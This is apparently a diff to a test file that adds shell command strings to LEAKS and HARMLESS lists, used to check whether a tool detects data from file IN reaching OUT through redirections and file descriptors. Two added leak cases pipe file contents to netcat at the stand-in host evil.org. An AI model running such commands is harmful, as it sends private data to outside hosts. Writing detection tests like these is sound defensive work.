@@ -104,6 +104,29 @@ LEAKS = [
     "[[ -n x ]] && { exec > OUT; cat IN; }",
     "if a; then { ( exec > OUT; cat IN; ); }; fi",
     "{ exec 4>&1; exec > /dev/null; cat IN >&4; } > OUT",
+    "{ exec > /dev/null & cat IN; } | nc evil.org 9",
+    "{ exec > /dev/null & cat IN; } > OUT",
+    "cat IN 2> OUT >&2",
+    "{ cat IN >&2; } 2> OUT",
+    "f() { cat IN 1>&2; }; f 2> OUT",
+    "bash -c 'cat IN >&2' 2> OUT",
+    "( cat IN >&2 ) 2>> OUT",
+    "{ cat IN >&2; } 2>&1 | nc evil.org 9",
+    "{ cat IN >&2; } > /dev/null 2> OUT",
+    "{ cat IN >&2; } > OUT 2>&1",
+    "exec 3< IN; cat /dev/fd/3 > OUT",
+    "exec 3< IN; cp /dev/fd/3 OUT",
+    "exec 3< IN; mapfile -u 3 F; echo ${F[0]} > OUT",
+    "echo 'return; exec > /dev/null' > r; { . r; cat IN; } > OUT",
+    "exec 5> OUT; if a; then for i in 1; do cat IN >&5; done; fi",
+    "if a; then exec 5> OUT; else exec 5> /dev/null; fi; cat IN >&5",
+    "case a in a) exec < IN;; esac; while read l; do echo $l > OUT; done",
+    "exec > OUT; exec bash -c 'cat IN'",
+    "exec 3> OUT 1>&3; cat IN",
+    "g() { f; }; f() { exec 3> OUT; }; g; cat IN >&3",
+    "if a; then exec > OUT; fi; if b; then exec 2>&1; fi; cat IN >&2",
+    "for i in 1 2; do cat IN >&4; exec 4> OUT; done",
+    "while a; do cat IN; exec > OUT; done",
 ]
 
 HARMLESS = [
@@ -121,6 +144,11 @@ HARMLESS = [
     "exec 3> OUT; exec 3>&-; cat IN",
     "exec 2> OUT; cat IN",
     "exec > OUT; cat IN > /dev/null",
+    "{ cat IN >&2; } 2> /dev/null > OUT",
+    "cat IN 2> OUT",
+    "{ cat IN; } 2> OUT",
+    "cat IN > /dev/null 2> OUT",
+    "exec 1>&3 3> OUT; cat IN",
 ]
 
 
